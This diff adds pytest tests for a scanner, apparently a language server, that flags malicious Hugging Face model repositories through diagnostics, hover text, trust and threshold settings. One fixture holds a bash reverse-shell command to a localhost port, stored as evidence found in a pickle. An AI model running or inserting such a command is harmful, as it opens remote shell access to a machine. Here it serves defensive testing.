@@ -1,0 +1,136 @@
+"""Diagnostics from scans and code: rule ids, severities, messages, trust, threshold, suppression; settings."""
+
+from __future__ import annotations
+
+from lsprotocol import types
+
+from malhug.core.model import Category, FileReport, Finding, Location, Severity, TraceStep
+from malhug.hub.types import RepoScan, SafeRevision
+from malhug.server import diagnostics, hover
+from malhug.server.references import analyze_code
+from malhug.server.settings import Settings, from_environment, merge
+from malhug.server.spans import SourceLines
+
+SHA = "a" * 40
+SAFE = "b" * 40
+TEXT = 'from transformers import AutoModel\nm = AutoModel.from_pretrained("org/evil", trust_remote_code=True)\n'
+
+
+def evil_scan() -> RepoScan:
+    finding = Finding(
+        rule="MH101",
+        severity=Severity.CRITICAL,
+        category=Category.REVERSE_SHELL,
+        message="pickle calls os.system",
+        location=Location(member="archive/data.pkl", offset=57),
+        evidence="os.system('bash -i >& /dev/tcp/127.0.0.1/4242 0>&1')",
+    )
+    files = [
+        FileReport(path="pytorch_model.bin", format="pytorch-zip", findings=[finding]),
+        FileReport(path="model.safetensors", format="safetensors"),
+    ]
+    return RepoScan("org/evil", "model", None, SHA, files=files, hub_security={"scansDone": True, "status": "unsafe"})
+
+
+def issues(scan: RepoScan, settings: Settings, safe: SafeRevision | None = None, text: str = TEXT):  # type: ignore[no-untyped-def]
+    src = SourceLines(text)
+    analysis = analyze_code(text)
+    safe_map = {("model", "org/evil"): safe} if safe else {}
+    return diagnostics.document_issues(analysis, [], src, {("model", "org/evil", ""): scan}, safe_map, settings)
+
+
+def test_malicious_repo_is_an_error_on_the_literal_with_fixes() -> None:
+    safe = SafeRevision("org/evil", "model", SAFE, SHA, 3)
+    found = issues(evil_scan(), Settings(), safe)
+    hub = next(i for i in found if i.rule == "MH710")
+    assert hub.severity is Severity.CRITICAL
+    assert hub.span.line == 1 and TEXT.split("\n")[1][hub.span.col : hub.span.end_col] == '"org/evil"'
+    assert "org/evil@aaaaaaaaaaaa is malicious" in hub.message
+    assert "pytorch_model.bin: reverse-shell" in hub.message and "[MH101]" in hub.message
+    assert hub.data["safe_sha"] == SAFE and hub.data["category"] == "reverse-shell"
+    titles = [f["title"] for f in hub.data["fixes"]]
+    assert titles[0].startswith(f'Pin revision="{SAFE}"')
+    assert any("use_safetensors=True" in t for t in titles) and "Remove trust_remote_code=True" in titles
+    diag = diagnostics.to_diagnostic(hub, "file:///x.py", SourceLines(TEXT).lines, None)
+    assert diag.severity == types.DiagnosticSeverity.Error and diag.source == "malhug" and diag.code == "MH710"
+    assert diag.code_description is not None and diag.code_description.href.endswith("#mh710")
+    assert "MH706" in [i.rule for i in found]
+
+
+def test_trust_never_hides_malicious_but_hides_the_rest() -> None:
+    trusted = Settings(trusted_repos=("org/*",))
+    assert {i.rule for i in issues(evil_scan(), trusted)} == {"MH710"}  # MH706 hidden, MH710 kept
+    error = RepoScan("org/evil", "model", None, None, error="gated", error_kind="gated")
+    assert issues(error, trusted) == []
+    assert {i.rule for i in issues(error, Settings())} == {"MH712", "MH706"}
+
+
+def test_threshold_and_ignore_comments() -> None:
+    high = Settings(severity_threshold=Severity.HIGH)
+    assert [i.rule for i in issues(evil_scan(), high)] == ["MH710"]  # medium MH706 below the threshold
+    ignored = TEXT.replace("True)\n", "True)  # malhug: ignore[MH710]\n")
+    assert [i.rule for i in issues(evil_scan(), Settings(), text=ignored)] == ["MH706"]
+
+
+def test_clean_repo_that_ships_code_and_is_unpinned() -> None:
+    clean = RepoScan("org/evil", "model", None, SHA, files=[FileReport("modeling_x.py", "python")], ships_code=True)
+    found = {i.rule: i for i in issues(clean, Settings())}
+    assert set(found) == {"MH707", "MH706"}
+    assert found["MH707"].severity is Severity.MEDIUM  # together with trust_remote_code=True
+    assert SHA in found["MH707"].data["fixes"][0]["title"]
+
+
+def test_script_findings_carry_their_trace() -> None:
+    text = "import os\ncmd = 'x'\nos.system(cmd)\n"
+    finding = Finding(
+        "MH501",
+        Severity.HIGH,
+        Category.COMMAND_EXEC,
+        "runs a command",
+        Location(line=3, column=1, end_line=3, end_column=15),
+        trace=(TraceStep("assigned to cmd", Location(line=2, column=1, end_line=2, end_column=10)),),
+    )
+    (issue,) = diagnostics.document_issues(analyze_code(text), [finding], SourceLines(text), {}, {}, Settings())
+    diag = diagnostics.to_diagnostic(issue, "file:///s.py", SourceLines(text).lines, None)
+    assert (diag.range.start.line, diag.range.start.character, diag.range.end.character) == (2, 0, 14)
+    assert diag.related_information is not None
+    assert diag.related_information[0].message == "assigned to cmd"
+    assert diag.related_information[0].location.range.start == types.Position(line=1, character=0)
+
+
+def test_hover_names_verdict_sha_category_evidence_and_advice() -> None:
+    safe = SafeRevision("org/evil", "model", SAFE, SHA, 3)
+    ref = analyze_code(TEXT).refs[0]
+    text = hover.repo_markdown(ref, evil_scan(), safe, Settings())
+    assert "`org/evil` is malicious" in text and SHA in text
+    assert "pytorch_model.bin" in text and "reverse-shell" in text and "/dev/tcp/127.0.0.1/4242" in text
+    assert "Hugging Face's own scan" in text and f'revision="{SAFE}"' in text
+    assert "model.safetensors" not in text  # clean files are counted, not listed
+
+
+def test_settings_validation_and_environment() -> None:
+    env = from_environment({"HF_ENDPOINT": "http://127.0.0.1:9/", "HF_TOKEN": "hf_secret", "HF_HUB_OFFLINE": "1"})
+    assert env.hub_endpoint == "http://127.0.0.1:9" and env.offline and env.token == "hf_secret"
+    assert "hf_secret" not in repr(env)
+    settings, problems = merge(
+        env,
+        {
+            "malhug": {
+                "offline": False,
+                "severityThreshold": "HIGH",
+                "trustedRepos": ["acme/*"],
+                "maxDownload": "big",
+                "historyDepth": 5,
+                "logLevel": "chatty",
+                "hubEndpoint": "ftp://x",
+                "unknownKey": 1,
+            }
+        },
+    )
+    assert not settings.offline and settings.severity_threshold is Severity.HIGH
+    assert settings.trusted_repos == ("acme/*",) and settings.history_depth == 5
+    assert settings.max_download == Settings().max_download and settings.log_level == "info"
+    assert settings.hub_endpoint == "http://127.0.0.1:9"
+    assert sorted(p.split(":")[0] for p in problems) == ["malhug.hubEndpoint", "malhug.logLevel", "malhug.maxDownload"]
+    assert settings.is_trusted("acme/x") and not settings.is_trusted("other/x")
+    assert merge(Settings(), "nonsense")[1][0].startswith("malhug settings: expected an object")
